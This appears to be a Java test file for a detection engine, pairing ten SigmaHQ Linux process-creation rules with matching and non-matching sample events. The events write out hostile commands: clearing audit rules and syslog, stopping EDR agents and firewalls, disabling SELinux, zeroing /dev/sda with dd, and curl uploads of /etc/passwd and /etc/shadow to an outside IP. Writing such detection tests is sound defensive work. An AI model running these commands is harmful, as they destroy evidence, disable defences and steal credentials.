package io.vigil.detect.agreement;

import static io.vigil.detect.agreement.Exec.exec;
import static io.vigil.detect.agreement.RuleCases.hit;
import static io.vigil.detect.agreement.RuleCases.miss;
import static io.vigil.detect.agreement.RuleCases.rule;

import java.util.List;

/**
 * Ten SigmaHQ process_creation rules about defence evasion, impact, collection and exfiltration,
 * each with cases written from the rule text. The text before each event says which part of the
 * rule it exercises.
 */
final class EvasionAndImpactRules {
  private EvasionAndImpactRules() {}

  private static final String SCX_SCRIPT = "/etc/opt/microsoft/scx/conf/tmpdir/scx-1234";

  static final List<RuleCases> RULES =
      List.of(
          rule(
              "proc_creation_lnx_auditctl_clear_rules.yml",
              "bed26dea-4525-47f4-b24a-76e30e44ffb0",
              hit(
                  "Image|endswith /auditctl and CommandLine|re -D",
                  exec("/usr/sbin/auditctl", "auditctl -D"),
                  "Image",
                  "CommandLine"),
              hit(
                  "re searches the whole line: -D after other flags",
                  exec("/sbin/auditctl", "auditctl -k all -D"),
                  "Image",
                  "CommandLine"),
              hit(
                  "endswith is case-insensitive; the regex still finds -D",
                  exec("/usr/sbin/AUDITCTL", "AUDITCTL -D"),
                  "Image",
                  "CommandLine"),
              miss(
                  "re is case-sensitive: -d (delete one rule) is not -D",
                  exec("/usr/sbin/auditctl", "auditctl -d always,exit -F arch=b64 -S execve")),
              miss("listing the rules: no -D", exec("/usr/sbin/auditctl", "auditctl -l")),
              miss(
                  "-D in the command line of another image",
                  exec("/usr/bin/echo", "echo auditctl -D"))),
          rule(
              "proc_creation_lnx_chmod_targeting_sensitive_directories.yml",
              "6419afd1-3742-47a5-a7e6-b50386cd15f8",
              hit(
                  "selection: endswith /chmod, contains /tmp/",
                  exec("/usr/bin/chmod", "chmod +x /tmp/payload"),
                  "Image",
                  "CommandLine"),
              hit(
                  "selection: contains /opt/",
                  exec("/bin/chmod", "chmod 4755 /opt/app/helper"),
                  "Image",
                  "CommandLine"),
              miss(
                  "selection: no listed directory",
                  exec("/usr/bin/chmod", "chmod +x /home/alice/run.sh")),
              miss(
                  "filter_main_update_shells: both of its items hold",
                  exec("/usr/bin/chmod", "chmod --reference=/etc/shells /etc/shells.tmp")
                      .parent("/usr/bin/sh", "/bin/sh /usr/sbin/update-shells")),
              hit(
                  "filter_main_update_shells needs ParentCommandLine|endswith: an argument after"
                      + " update-shells defeats it",
                  exec("/usr/bin/chmod", "chmod --reference=/etc/shells /etc/shells.tmp")
                      .parent("/usr/bin/sh", "/bin/sh /usr/sbin/update-shells --root /"),
                  "Image",
                  "CommandLine"),
              miss(
                  "filter_main_postinst: /etc/ and a dpkg postinst configure parent",
                  exec("/usr/bin/chmod", "chmod 640 /etc/foo/foo.conf")
                      .parent(
                          "/usr/bin/sh", "/bin/sh /var/lib/dpkg/info/foo.postinst configure 1.2")),
              hit(
                  "filter_main_postinst: contains|all needs '.postinst configure', not upgrade",
                  exec("/usr/bin/chmod", "chmod 640 /etc/foo/foo.conf")
                      .parent("/usr/bin/sh", "/bin/sh /var/lib/dpkg/info/foo.postinst upgrade 1.2"),
                  "Image",
                  "CommandLine"),
              miss(
                  "filter_main_apt_key: startswith chmod 700 /tmp/apt-key-gpghome.",
                  exec("/usr/bin/chmod", "chmod 700 /tmp/apt-key-gpghome.AbC123")),
              hit(
                  "filter_main_apt_key: startswith is anchored, another mode is not filtered",
                  exec("/usr/bin/chmod", "chmod 755 /tmp/apt-key-gpghome.AbC123"),
                  "Image",
                  "CommandLine"),
              miss(
                  "filter_main_landscape: a plain value equals the whole line, case-insensitively",
                  exec("/usr/bin/chmod", "CHMOD 0775 /ETC/LANDSCAPE/")),
              hit(
                  "filter_main_landscape: no implicit wildcard, a file under the directory matches",
                  exec("/usr/bin/chmod", "chmod 0775 /etc/landscape/client.conf"),
                  "Image",
                  "CommandLine")),
          rule(
              "proc_creation_lnx_clear_syslog.yml",
              "3fcc9b35-39e4-44c0-a2ad-9e82b6902b31",
              hit(
                  "selection_file and selection_command_rm",
                  exec("/usr/bin/rm", "rm -f /var/log/syslog"),
                  "CommandLine",
                  "Image"),
              hit(
                  "selection_file and selection_command_unlink (the image alone)",
                  exec("/usr/bin/unlink", "unlink /var/log/syslog"),
                  "CommandLine",
                  "Image"),
              hit(
                  "selection_command_truncate: contains|all '0 ' and the path, and --size",
                  exec("/usr/bin/truncate", "truncate --size 0 /var/log/syslog"),
                  "CommandLine",
                  "Image"),
              miss(
                  "selection_command_truncate: a size without '0 '",
                  exec("/usr/bin/truncate", "truncate --size 5M /var/log/syslog")),
              hit(
                  "selection_command_ln: /dev/null, the path and -sfn",
                  exec("/usr/bin/ln", "ln -sfn /dev/null /var/log/syslog"),
                  "CommandLine",
                  "Image"),
              hit(
                  "selection_file and selection_command_mv (the image alone)",
                  exec("/usr/bin/mv", "mv /var/log/syslog /tmp/s"),
                  "CommandLine",
                  "Image"),
              hit(
                  "selection_file and selection_command_cp: /dev/null",
                  exec("/usr/bin/cp", "cp /dev/null /var/log/syslog"),
                  "CommandLine",
                  "Image"),
              hit(
                  "selection_file and selection_command_shred: -u",
                  exec("/usr/bin/shred", "shred -u /var/log/syslog"),
                  "CommandLine",
                  "Image"),
              miss(
                  "selection_file without any selection_command_*: reading the log",
                  exec("/usr/bin/tail", "tail -f /var/log/syslog")),
              miss(
                  "selection_command_rm without selection_file: another log",
                  exec("/usr/bin/rm", "rm -f /var/log/auth.log")),
              hit(
                  "1 of selection_unique_*: a redirection that empties the log, any image",
                  exec("/usr/bin/bash", "bash -c : > /var/log/syslog"),
                  "CommandLine"),
              hit(
                  "selection_unique_journalctl: journalctl --vacuum",
                  exec("/usr/bin/journalctl", "journalctl --vacuum-time=1s"),
                  "CommandLine"),
              miss(
                  "selection_unique_journalctl: neither --vacuum nor --rotate",
                  exec("/usr/bin/journalctl", "journalctl --verify"))),
          rule(
              "proc_creation_lnx_security_tools_disabling.yml",
              "e3a8a052-111f-4606-9aee-f28ebeb76776",
              hit(
                  "1 of selection* (no underscore in the pattern): selection_crowdstrike_1",
                  exec("/usr/bin/systemctl", "systemctl stop falcon-sensor"),
                  "Image",
                  "CommandLine"),
              hit(
                  "selection_iptables_1: service, iptables, stop",
                  exec("/usr/sbin/service", "service iptables stop"),
                  "Image",
                  "CommandLine"),
              hit(
                  "selection_carbonblack_2: chkconfig, cbdaemon, off",
                  exec("/sbin/chkconfig", "chkconfig cbdaemon off"),
                  "Image",
                  "CommandLine"),
              hit(
                  "selection_iptables_2: service, ip6tables, stop",
                  exec("/usr/sbin/service", "service ip6tables stop"),
                  "Image",
                  "CommandLine"),
              hit(
                  "selection_iptables_3: chkconfig, iptables, stop",
                  exec("/sbin/chkconfig", "chkconfig iptables stop"),
                  "Image",
                  "CommandLine"),
              hit(
                  "selection_iptables_4: chkconfig, ip6tables, stop",
                  exec("/sbin/chkconfig", "chkconfig ip6tables stop"),
                  "Image",
                  "CommandLine"),
              hit(
                  "selection_firewall_1: systemctl, firewalld, stop",
                  exec("/usr/bin/systemctl", "systemctl stop firewalld"),
                  "Image",
                  "CommandLine"),
              hit(
                  "selection_firewall_2: systemctl, firewalld, disable",
                  exec("/usr/bin/systemctl", "systemctl disable firewalld"),
                  "Image",
                  "CommandLine"),
              hit(
                  "selection_carbonblack_1: service, cbdaemon, stop",
                  exec("/usr/sbin/service", "service cbdaemon stop"),
                  "Image",
                  "CommandLine"),
              hit(
                  "selection_carbonblack_3: systemctl, cbdaemon, stop",
                  exec("/usr/bin/systemctl", "systemctl stop cbdaemon"),
                  "Image",
                  "CommandLine"),
              hit(
                  "selection_carbonblack_4: systemctl, cbdaemon, disable",
                  exec("/usr/bin/systemctl", "systemctl disable cbdaemon"),
                  "Image",
                  "CommandLine"),
              hit(
                  "selection_crowdstrike_2: systemctl, disable, falcon-sensor",
                  exec("/usr/bin/systemctl", "systemctl disable falcon-sensor"),
                  "Image",
                  "CommandLine"),
              miss(
                  "selection_carbonblack_1 wants stop with service; off is chkconfig's",
                  exec("/usr/sbin/service", "service cbdaemon off")),
              hit(
                  "selection_selinux: setenforce with a 0",
                  exec("/usr/sbin/setenforce", "setenforce 0"),
                  "Image",
                  "CommandLine"),
              miss(
                  "selection_selinux: setenforce 1 has no 0",
                  exec("/usr/sbin/setenforce", "setenforce 1")),
              miss(
                  "selection_firewall_*: firewalld without stop or disable",
                  exec("/usr/bin/systemctl", "systemctl status firewalld")),
              miss(
                  "the words in the command line of an image no selection names",
                  exec("/usr/bin/echo", "echo systemctl stop falcon-sensor"))),
          rule(
              "proc_creation_lnx_services_stop_and_disable.yml",
              "de25eeb8-3655-4643-ac3a-b662d3f26b6b",
              hit(
                  "selection: systemctl with ' stop '",
                  exec("/usr/bin/systemctl", "systemctl stop auditd.service"),
                  "Image",
                  "CommandLine"),
              hit(
                  "selection: ' disable '",
                  exec("/usr/bin/systemctl", "systemctl disable --now apparmor"),
                  "Image",
                  "CommandLine"),
              miss(
                  "selection: ' stop ' needs a space after it, a trailing stop is not it",
                  exec("/usr/sbin/service", "service apache2 stop")),
              miss(
                  "filter_main_legit_snapd: ' stop snap-snapd-'",
                  exec("/usr/bin/systemctl", "systemctl stop snap-snapd-21759.mount")),
              miss(
                  "filter_main_ssh_preinstall: systemctl, preinst upgrade parent, stop ssh.",
                  exec("/usr/bin/systemctl", "systemctl stop ssh.socket")
                      .parent("/usr/bin/sh", "/bin/sh /var/lib/dpkg/tmp.ci/preinst upgrade 1:9.6")),
              hit(
                  "filter_main_ssh_preinstall needs its parent: the same command from a shell",
                  exec("/usr/bin/systemctl", "systemctl stop ssh.socket"),
                  "Image",
                  "CommandLine"),
              miss(
                  "filter_main_ubuntu_upgrade: the ubuntu-pro-client prerm parent",
                  exec("/usr/bin/systemctl", "systemctl stop ua-timer.timer")
                      .parent(
                          "/usr/bin/sh",
                          "/bin/sh /var/lib/dpkg/info/ubuntu-pro-client.prerm upgrade 31")),
              miss(
                  "filter_optional_aws_agent: endswith the snap's unit",
                  exec(
                      "/usr/bin/systemctl",
                      "systemctl disable snap.amazon-ssm-agent.amazon-ssm-agent.service"))),
          rule(
              "proc_creation_lnx_dd_file_overwrite.yml",
              "2953194b-e33c-4859-b9e8-05948c167447",
              hit(
                  "all of selection*: Image equals /usr/bin/dd, of= and if=/dev/zero",
                  exec("/usr/bin/dd", "dd if=/dev/zero of=/dev/sda bs=1M"),
                  "Image",
                  "CommandLine"),
              hit(
                  "selection1: a plain value compares case-insensitively; if=/dev/null",
                  exec("/BIN/DD", "dd if=/dev/null of=/var/log/wtmp"),
                  "Image",
                  "CommandLine"),
              miss(
                  "selection1: a plain value is the whole field, /usr/local/bin/dd is not listed",
                  exec("/usr/local/bin/dd", "dd if=/dev/zero of=/dev/sda")),
              miss(
                  "selection3: random data is neither /dev/zero nor /dev/null",
                  exec("/usr/bin/dd", "dd if=/dev/urandom of=/tmp/key bs=32 count=1")),
              miss(
                  "selection2: no of= (dd writes to stdout)",
                  exec("/usr/bin/dd", "dd if=/dev/zero bs=1M count=1"))),
          rule(
              "proc_creation_lnx_susp_execution_tmp_folder.yml",
              "312b42b1-bded-4441-8b58-163a3af58775",
              hit("Image|startswith /tmp/", exec("/tmp/kworker", "kworker"), "Image"),
              hit("startswith is case-insensitive", exec("/TMP/x", "x"), "Image"),
              miss("startswith: /var/tmp/ is not /tmp/", exec("/var/tmp/x", "x")),
              miss("startswith: /tmp/ inside the path", exec("/home/alice/tmp/x", "x")),
              miss(
                  "filter_optional_nextcloud: an AppImage mounted under /tmp",
                  exec("/tmp/.mount_NextclAbC/usr/bin/nextcloud", "nextcloud")),
              hit(
                  "filter_optional_nextcloud wants /usr/bin/nextcloud at the end",
                  exec("/tmp/nextcloud", "nextcloud"),
                  "Image")),
          rule(
              "proc_creation_lnx_susp_curl_fileupload.yml",
              "00b90cc1-17ec-402c-96ad-3a8117d7a582",
              hit(
                  "selection_cli, first map: contains ' --data '",
                  exec("/usr/bin/curl", "curl --data @/etc/passwd http://203.0.113.9/up"),
                  "Image",
                  "CommandLine"),
              hit(
                  "selection_cli, first map: ' --form' also covers --form-string",
                  exec("/usr/bin/curl", "curl --form-string note=x http://203.0.113.9/up"),
                  "Image",
                  "CommandLine"),
              hit(
                  "selection_cli, second map: re \\s-[FTd]\\s",
                  exec("/usr/bin/curl", "curl -F file=@/etc/shadow https://203.0.113.9/up"),
                  "Image",
                  "CommandLine"),
              miss(
                  "selection_cli: the regex is case-sensitive, -f (fail) is not -F",
                  exec("/usr/bin/curl", "curl -f -o /tmp/x https://example.org/x")),
              miss(
                  "filter_optional_localhost: an upload to localhost",
                  exec("/usr/bin/curl", "curl --data x=1 http://localhost:8080/api")),
              miss(
                  "filter_optional_localhost: contains is case-insensitive in a filter too",
                  exec("/usr/bin/curl", "curl -d x=1 http://LOCALHOST:8080/api")),
              miss(
                  "selection_img: the upload flag on wget",
                  exec("/usr/bin/wget", "wget --data x http://203.0.113.9/"))),
          rule(
              "proc_creation_lnx_susp_sensitive_file_access.yml",
              "86157017-c2b1-4d4a-8c33-93b8e67e4af4",
              hit(
                  "selection_img_2 and selection_paths '/etc/*.conf': * inside contains is a"
                      + " wildcard",
                  exec("/usr/bin/vim", "vim /etc/nginx/nginx.conf"),
                  "Image",
                  "CommandLine"),
              miss(
                  "selection_paths: '/etc/*.conf' needs .conf after /etc/",
                  exec("/usr/bin/vim", "vim /etc/nginx/nginx.cnf")),
              hit(
                  "selection_img_1: a listed image with '>' in the command line",
                  exec("/usr/bin/echo", "echo 10.0.0.9 evil.example >> /etc/hosts"),
                  "Image",
                  "CommandLine"),
              miss(
                  "selection_img_1 needs '>': reading is not writing",
                  exec("/usr/bin/cat", "cat /etc/hosts")),
              hit(
                  "Image and CommandLine compare case-insensitively",
                  exec("/USR/BIN/VIM", "VIM /ETC/SUDOERS"),
                  "Image",
                  "CommandLine"),
              miss(
                  "filter_main_mdadm.conf: /bin/sed, startswith 'sed -i /^*', endswith mdadm.conf",
                  exec("/usr/bin/sed", "sed -i /^ARRAY/d /etc/mdadm/mdadm.conf")),
              hit(
                  "filter_main_mdadm.conf needs its endswith: a backup copy is not filtered",
                  exec("/usr/bin/sed", "sed -i /^ARRAY/d /etc/mdadm/mdadm.conf.bak"),
                  "Image",
                  "CommandLine"),
              miss(
                  "selection_paths reads CommandLine: a sensitive working directory is not it",
                  exec("/usr/bin/vim", "vim notes.txt").cwd("/etc/init.d"))),
          rule(
              "proc_creation_lnx_omigod_scx_runasprovider_executescript.yml",
              "6eea1bf6-f8d2-488a-a742-e6ef6c1b67db",
              hit(
                  "User root, LogonId 0, CurrentDirectory equal, CommandLine contains scx tmpdir",
                  scx(),
                  "User",
                  "LogonId",
                  "CurrentDirectory",
                  "CommandLine"),
              hit(
                  "CurrentDirectory: a plain value compares case-insensitively",
                  scx().cwd("/VAR/OPT/MICROSOFT/SCX/TMP"),
                  "User",
                  "LogonId",
                  "CurrentDirectory",
                  "CommandLine"),
              miss(
                  "CurrentDirectory: no implicit wildcard, a subdirectory is not it",
                  scx().cwd("/var/opt/microsoft/scx/tmp/run")),
              miss("User must be root", scx().user("omi")),
              miss("LogonId must be 0: a login session", scx().session(3)),
              miss(
                  "LogonId: audit's unset session id is no value at all",
                  scx().session(0xffffffffL)),
              miss(
                  "CommandLine: the scx path in the parent's command line, not the process's",
                  exec("/usr/bin/sh", "/bin/sh -c id")
                      .parent("/opt/omi/bin/omiagent", "omiagent " + SCX_SCRIPT)
                      .user("root")
                      .session(0)
                      .cwd("/var/opt/microsoft/scx/tmp"))));

  /** What the OMIGOD script provider runs: a script from scx's tmpdir, as root, session 0. */
  private static Exec scx() {
    return exec("/usr/bin/sh", "/bin/sh " + SCX_SCRIPT)
        .parent("/opt/omi/bin/omiagent", "omiagent")
        .user("root")
        .session(0)
        .cwd("/var/opt/microsoft/scx/tmp");
  }
}
